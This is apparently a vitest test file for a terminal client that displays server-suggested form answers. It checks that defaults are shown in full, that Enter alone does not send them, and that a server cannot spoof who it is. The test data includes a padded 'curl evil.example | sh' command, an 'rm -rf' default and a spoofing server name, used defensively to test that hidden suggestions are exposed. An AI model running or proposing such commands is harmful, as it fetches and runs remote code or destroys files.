import { PassThrough, Writable } from 'node:stream';

import { beforeAll, describe, expect, it } from 'vitest';

import type { FormAnswer } from '../../src/client/elicitation.ts';
import type { Renderer } from '../../src/client/renderer.ts';
import { createRenderer } from '../../src/terminal/create-renderer.ts';
import { openRichSurface } from '../../src/terminal/rich-surface.ts';
import { readline, terminal } from '../../src/terminal/index.ts';
import { hasPty, KEY } from '../cli/pty.ts';
import { askInTerminal, bundleProgram } from './ask-in-terminal.ts';
import { fakeTerminal, type FakeTerminal } from './fake-terminal-harness.ts';
import { type Asked, elicitationOf } from './scenario.ts';
import { screenOf } from './screen-model.ts';

// A server that wants to be answered unseen: by what it suggests, by what it hides, by a key that was meant for something
// else.

const { down, enter, escape } = KEY;
const never = new AbortController().signal;
const accept = (content: object): object => ({ action: 'accept', content });

function ask(renderer: Renderer, asked: Asked, signal = never): Promise<FormAnswer> {
  const elicitation = elicitationOf(asked);
  const answer = elicitation.mode === 'form' ? renderer.form?.(elicitation, signal) : undefined;
  if (answer === undefined) throw new Error('That is no form.');
  return answer;
}

/** Answers through a pipe, line by line. */
async function pipe(asked: Asked, ...lines: readonly string[]): Promise<[FormAnswer, string]> {
  const input = new PassThrough();
  let written = '';
  const output = new Writable({
    write(chunk, _encoding, done) {
      written += String(chunk);
      done();
    },
  });
  input.end(lines.map((line) => `${line}\n`).join(''));
  return [await ask(readline({ input, output }), asked), written];
}

const shows = (screen: FakeTerminal, text: string): Promise<boolean> =>
  screen.until(() => screen.lines().some((line) => line.includes(text)));

/** More suggestions than any window shows at once, the first of which is the one that matters. */
const many: Asked = {
  properties: {
    delete_everything: { type: 'boolean', default: true, title: 'Delete all' },
    ...Object.fromEntries(
      Array.from({ length: 40 }, (_, n) => [
        `n${n}`,
        { type: 'string', title: `Setting ${n}`, default: `v${n}` },
      ]),
    ),
  },
  required: ['delete_everything'],
};
const everything = {
  delete_everything: true,
  ...Object.fromEntries(Array.from({ length: 40 }, (_, n) => [`n${n}`, `v${n}`])),
};
const command = `echo hello ${'#'.repeat(1500)} ; curl evil.example | sh`;

describe.runIf(hasPty)('what is suggested, drawn', () => {
  beforeAll(bundleProgram, 60_000);

  it('C6: all of it is on the screen before it can be sent, and Enter alone does not send it', async () => {
    const terminal = await askInTerminal(many, { columns: 80, rows: 24 });
    await terminal.sees('= Delete all: Yes - suggested by the server');
    await terminal.sees('= Setting 39: v39 - suggested by the server');
    await terminal.sees('? Send this answer to billing?');
    await terminal.sees('Esc cancels');
    expect(screenOf(terminal.drawn(), 80, 24).filter((line) => line.startsWith('  > '))).toEqual([]);
    terminal.press(enter);
    await terminal.sees('! Nothing is chosen yet');
    terminal.press('s');
    await terminal.sees('> Send');
    await terminal.sees('Esc cancels');
    terminal.press(enter);
    expect(await terminal.answers()).toEqual([accept(everything)]);
  });

  it('C6: a long text is there to its end, and is shortened only after that', async () => {
    const terminal = await askInTerminal(
      { properties: { cmd: { type: 'string', default: command } }, required: ['cmd'] },
      { columns: 80, rows: 20 },
    );
    await terminal.sees('= cmd: echo hello');
    await terminal.sees('Send this answer');
    await terminal.sees('more lines)');
    await terminal.sees('Esc cancels');
    const written = screenOf(terminal.drawn(), 80, 20).join('').replaceAll(/\s/g, '');
    expect(written).toContain(`=cmd:${command.replaceAll(' ', '')}-suggestedbytheserver`);
    terminal.press('s', enter);
    expect(await terminal.answers()).toEqual([accept({ cmd: command })]);
  });

  it('SIGTERM ends the program with the terminal in order', async () => {
    const terminal = await askInTerminal({ properties: { a: { type: 'string' } } });
    await terminal.sees('Esc cancels');
    terminal.signal('SIGTERM');
    await terminal.ends();
    expect(terminal.drawn().endsWith('\u001B[?2004l')).toBe(true);
    // The frame is taken away too.
    expect(screenOf(terminal.drawn(), 120, 50).at(-1)).toBe('| Hello.');
  });
});

describe('what is suggested, in lines', () => {
  it('C6: all of it is written before it can be sent, and only the word sends it', async () => {
    const [cancelled, written] = await pipe(many, '', '');
    expect(cancelled).toEqual({ action: 'cancel' });
    const prompt = written.indexOf('Number or word: ');
    for (const text of ['1. Delete all: Yes - suggested by the server', '41. Setting 39: v39 - ']) {
      expect(written.slice(0, prompt)).toContain(text);
    }
    expect(written).toContain('Problem: Nothing is chosen yet. Type send for that.');
    expect((await pipe(many, 'send'))[0]).toEqual(accept(everything));
  });

  it('C6: also after all fields an empty line does not send', async () => {
    const one: Asked = { properties: { a: { type: 'string' } }, required: ['a'] };
    expect((await pipe(one, '', 'x', '', ''))[0]).toEqual({ action: 'cancel' });
  });

  it('C34: what would be cut off or collapsed is written out, also in lists', async () => {
    const list = ['a, b', 'a', 'b', 'x  y', `${'z'.repeat(300)}!`];
    const [answer, written] = await pipe(
      {
        properties: {
          cmd: { type: 'string', default: command },
          rm: { type: 'string', default: 'rm -rf ./a\n\n\n   b' },
          one: { type: 'string', enum: ['x\u200B', 'x'], default: 'x\u200B' },
          some: { type: 'array', items: { type: 'string', enum: list }, default: list },
        },
      },
      'send',
    );
    expect(answer.action).toBe('accept');
    expect(written).toContain(`cmd: ${command} - suggested`);
    expect(written).toContain(String.raw`rm: "rm -rf ./a\n\n\n\x20\x20\x20b" - suggested`);
    // No part of it may be hidden where it would be kept by Enter.
    expect(written).toContain('suggested for "one" has invisible characters in it, so it is not filled in.');
    expect(written).toContain(String.raw`some: "a, b", a, b, "x\x20\x20y", ${'z'.repeat(300)}! - suggested`);
  });

  it('what is too long to be read is not filled in', async () => {
    const [answer, written] = await pipe(
      {
        properties: {
          a: { type: 'string', default: 'x'.repeat(10_001) },
          b: { type: 'string', default: 'y' },
        },
      },
      'send',
    );
    expect(answer).toEqual(accept({ b: 'y' }));
    expect(written).toContain(
      'The text that is suggested for "a" is too long to be read, so it is not filled in.',
    );
  });
});

describe('keys that were meant for something else', () => {
  it('are ignored for a moment after a question was taken back', async () => {
    const screen = fakeTerminal(() => false);
    const { input, output } = screen;
    let time = 0;
    const renderer = createRenderer(
      () => ({
        input,
        output,
        open: () => Promise.resolve('failed'),
        warning: '',
        openSurface: (listening) => openRichSurface(input, output, { ...listening, colours: false }),
      }),
      () => time,
    );
    const yes: Asked = { properties: { sure: { type: 'boolean', default: true } }, required: ['sure'] };
    const stop = new AbortController();
    const first = ask(renderer, { message: 'First?', ...yes }, stop.signal);
    await shows(screen, 'Esc cancels');
    const second = ask(renderer, { message: 'Second?', ...yes });
    stop.abort();
    expect(await first).toEqual({ action: 'cancel' });
    await shows(screen, 'Second?');
    await shows(screen, 'Esc cancels');
    time = 399;
    input.write(`${enter}n\u001B[200~n\u001B[201~${enter}`);
    const before = screen.raw();
    await screen.until(() => true);
    expect(screen.raw()).toBe(before);
    time = 400;
    await screen.press('n');
    await screen.press(enter);
    await shows(screen, '= sure: No');
    await shows(screen, '> Send');
    await screen.press(enter);
    expect(await second).toEqual(accept({ sure: false }));
    // Only then: no other question has that moment.
    const third = ask(renderer, yes);
    await shows(screen, '> Yes');
    await screen.press(escape);
    expect(await third).toEqual({ action: 'cancel' });
  });

  it('a pasted text answers one question in lines too', async () => {
    const screen = fakeTerminal(() => false);
    const { input, output } = screen;
    const renderer = terminal({ input, output, plain: true, env: { TERM: 'xterm' } });
    const answer = ask(renderer, {
      properties: { a: { type: 'string' }, b: { type: 'string', enum: ['x', 'y'] } },
      required: ['a'],
    });
    await shows(screen, 'Word [answer]: ');
    await screen.press(enter);
    await shows(screen, 'Text: ');
    await screen.press('\u001B[200~first line\rx\r\u0007\r\u001B[201~');
    await shows(screen, 'Text: first line\u21B5x');
    await screen.press(`${KEY.backspace}${enter}`);
    await shows(screen, 'Number or name (Enter skips): ');
    await screen.press(enter);
    await shows(screen, 'Number or word: ');
    await screen.press(`send${enter}`);
    expect(await answer).toEqual(accept({ a: 'first line\n' }));
    expect(screen.raw().startsWith('\u001B[?2004h')).toBe(true);
    expect(screen.raw().endsWith('\u001B[?2004l')).toBe(true);
  });

  it('a stopped program that goes on draws its prompt again', async () => {
    const screen = fakeTerminal(() => false);
    const { input, output } = screen;
    const modes: boolean[] = [];
    Object.assign(input, { setRawMode: (raw: boolean) => modes.push(raw) });
    const renderer = terminal({ input, output, env: { TERM: 'xterm' } });
    const answer = ask(renderer, { properties: { a: { type: 'string' } } });
    await shows(screen, 'Esc cancels');
    const before = screen.raw().length;
    process.emit('SIGCONT', 'SIGCONT');
    expect(screen.raw().slice(before)).toMatch(/^.\[\?2004h[^]*Answer billing\?/);
    expect(modes).toEqual([true, false, true]);
    await screen.press(escape);
    expect(await answer).toEqual({ action: 'cancel' });
    expect(modes).toEqual([true, false, true, false]);
  });
});

describe('words of a server', () => {
  it('C4: empty lines push nothing off the screen, and after many lines it is told again who asks', async () => {
    const [, written] = await pipe({
      message: `hello${'\n'.repeat(60)}bank.example asks\nFor transfer, round 1.`,
      properties: { a: { type: 'string', description: 'line\n'.repeat(30) } },
    });
    expect(written).toContain('billing asks\n| hello\n| \n| bank.example asks\n| For transfer, round 1.\n\n');
    expect(written).toContain('? Answer billing?\n');
    const [, long] = await pipe(
      {
        message: 'line\n'.repeat(30),
        properties: { a: { type: 'string', description: 'told\n'.repeat(30) } },
      },
      '',
    );
    expect(long).toContain('| line\nAll of this is from billing.\n');
    expect(long).toContain('| told\nAll of this is from billing.\n');
  });

  it('C34: every line of them has its mark, also where nothing is drawn', async () => {
    const [, written] = await pipe(
      {
        message: 'one\nSent.\n  decline - tell the server that you say no',
        properties: { 'Problem: x': { type: 'string', description: 'Warning: y\nbilling asks' } },
      },
      '',
      '',
    );
    expect(written).toContain('| one\n| Sent.\n|   decline - tell');
    expect(written).toContain('| Warning: y\n| billing asks\n? Problem: x (optional)\n');
    expect(written).toContain('\n= Problem: x: (left empty)\n');
  });

  it('C4: what a server calls itself does not get out of its quotes', async () => {
    const selfName = 'x") asks for nothing. your bank (verified, "bank"';
    const [, written] = await pipe({ from: { selfName } });
    expect(written).toContain(
      'billing (it calls itself "x asks for nothing. your bank verified, bank") asks\n',
    );
  });
});

it('C6: Enter after having gone through all fields still sends what is drawn', async () => {
  const screen = fakeTerminal(() => false);
  const { input, output } = screen;
  const answer = ask(terminal({ input, output, env: { TERM: 'xterm' } }), {
    properties: { l: { type: 'string', enum: ['x', 'y'] } },
    required: ['l'],
  });
  await shows(screen, 'Esc cancels');
  await screen.press(`${down}${enter}`);
  await shows(screen, '> Send');
  await screen.press(enter);
  expect(await answer).toEqual(accept({ l: 'x' }));
});
